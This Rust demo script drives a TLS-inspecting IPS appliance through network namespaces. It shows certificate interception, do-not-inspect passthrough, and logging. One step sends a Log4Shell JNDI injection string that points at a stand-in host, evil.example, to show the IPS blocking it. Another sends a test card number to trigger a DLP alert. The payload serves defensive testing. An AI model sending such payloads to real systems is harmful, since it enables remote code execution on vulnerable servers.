//! `cargo xtask demo`: the appliance between a real client and a real server, in network
//! namespaces on 198.18.0.0/15, with the example policy from docs/example-config.toml.

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use anyhow::{Context, Result};
use tls_inspect_tests::pki::TestPki;
use tls_inspect_tests::{check, Topology, SERVER_IP};

fn step(n: u32, text: &str) {
    println!("\n\x1b[1m== {n}. {text}\x1b[0m");
}

fn show(cmd: &mut Command) -> Result<()> {
    let out = cmd.output().with_context(|| format!("running {cmd:?}"))?;
    print!("{}", String::from_utf8_lossy(&out.stdout));
    eprint!("{}", String::from_utf8_lossy(&out.stderr));
    Ok(())
}

pub fn run(bin: &Path) -> Result<()> {
    // SAFETY: single-threaded at this point; the test bed reads this variable.
    unsafe { std::env::set_var("TLS_INSPECT_BIN", bin) };
    let config = std::fs::read_to_string(crate::root().join("docs/example-config.toml"))?;

    step(1, "topology: client 198.18.0.1 <-> [inside | appliance | outside] <-> server 198.18.0.2");
    let mut t = Topology::new()?;
    println!("namespaces {}, {}, {}", t.client.0, t.appliance.0, t.server.0);

    step(2, "a trial CA (tls-inspect ca trial), and a test PKI the appliance trusts upstream");
    let ca_dir = t.dir.join("ca");
    show(Command::new(bin).args(["ca", "--dir"]).arg(&ca_dir).arg("trial"))?;
    let pki = TestPki::new(&t.dir)?;
    let server = pki.server("server", &["server.demo", "passthrough.demo", SERVER_IP], "root", None)?;
    let eve = t.dir.join("eve.json");
    let config = format!(
        "{config}\n[tls]\ninspect = true\nca_dir = \"{}\"\nextra_roots = [\"{}\"]\ndo_not_inspect_hosts = [\"passthrough.demo\"]\n\n[ips]\nenabled = true\nmode = \"block\"\n\n[log]\neve = \"{}\"\n",
        ca_dir.display(),
        pki.root.display(),
        eve.display()
    );

    step(3, "tls-inspect run with the example policy (docs/example-config.toml) and TLS inspection on");
    t.start_appliance(&config)?;
    show(t.cli().args(["scope", "list"]))?;

    step(4, "ping and plain HTTP on port 80: not in any scope, bridged inside XDP");
    show(t.client.cmd("ping").args(["-c", "2", "-i", "0.2", SERVER_IP]))?;
    let mut http = t.server.cmd("python3");
    http.args(["-m", "http.server", "--bind", SERVER_IP, "80", "--directory", "/etc"]);
    t.spawn(http)?;
    t.wait_listening(&t.server.clone(), 80)?;
    let code = check(t.client.cmd("curl").args(["-sS", "-o", "/dev/null", "-w", "%{http_code}", &format!("http://{SERVER_IP}/hostname")]))?;
    println!("curl http://{SERVER_IP}/hostname -> HTTP {code}");

    step(5, "HTTPS to server.demo matches scope 1 and is inspected: curl trusts only the trial CA");
    let mut tls = t.server.cmd("openssl");
    tls.args(["s_server", "-accept", &format!("{SERVER_IP}:443"), "-www", "-key"]).arg(&server.key).arg("-cert").arg(&server.cert);
    t.spawn(tls)?;
    t.wait_listening(&t.server.clone(), 443)?;
    let curl = |name: &str, ca: &std::path::Path| -> Result<()> {
        let out = t
            .client
            .cmd("curl")
            .args(["-sS", "-v", "-o", "/dev/null", "--max-time", "10", "--connect-to", "::198.18.0.2:", "--cacert"])
            .arg(ca)
            .arg(format!("https://{name}/"))
            .output()?;
        let text = String::from_utf8_lossy(&out.stderr);
        for line in text.lines().filter(|l| l.contains("issuer:") || l.contains("subject:") || l.contains("SSL connection") || l.starts_with("< HTTP")) {
            println!("  {}", line.trim_start_matches("* ").trim());
        }
        println!("  -> {}", if out.status.success() { "ok" } else { "failed" });
        Ok(())
    };
    println!("curl --cacert trial-CA https://server.demo/");
    curl("server.demo", &ca_dir.join("ca.crt"))?;

    step(6, "passthrough.demo is a Do-Not-Inspect host: curl sees the server's own certificate");
    println!("curl --cacert test-root https://passthrough.demo/");
    curl("passthrough.demo", &pki.root)?;

    step(7, "the IPS on the decrypted stream: a Log4Shell request is blocked, a card number is reported");
    let out = t
        .client
        .cmd("curl")
        .args(["-sS", "-g", "--max-time", "10", "--connect-to", "::198.18.0.2:", "--cacert"])
        .arg(ca_dir.join("ca.crt"))
        .arg("https://server.demo/?q=${jndi:ldap://evil.example/a}")
        .output()?;
    let page = String::from_utf8_lossy(&out.stdout);
    println!("curl 'https://server.demo/?q=${{jndi:ldap://evil.example/a}}' ->");
    for line in page.lines().filter(|l| l.contains("Blocked") || l.contains("sid")) {
        println!("  {}", line.trim());
    }
    let _ = t
        .client
        .cmd("curl")
        .args(["-sS", "-o", "/dev/null", "--max-time", "10", "--connect-to", "::198.18.0.2:", "--data", "card=4111 1111 1111 1111", "--cacert"])
        .arg(ca_dir.join("ca.crt"))
        .arg("https://server.demo/")
        .output()?;
    println!("curl --data 'card=4111 1111 1111 1111' https://server.demo/ -> passed, reported (DLP action: alert)");

    step(8, "the log: one EVE-style JSON line per flow, per alert and per DLP finding");
    std::thread::sleep(Duration::from_millis(800));
    for line in std::fs::read_to_string(&eve).unwrap_or_default().lines() {
        println!("{line}");
    }

    step(9, "tls-inspect stats");
    show(t.cli().arg("stats"))?;

    step(10, "teardown: appliance stopped (its XDP program would keep bridging), then detached; namespaces and pins removed");
    let status = t.stop_appliance();
    println!("appliance exited: {status:?}");
    show(t.cli().arg("detach"))?;
    drop(t);
    println!("done");
    Ok(())
}
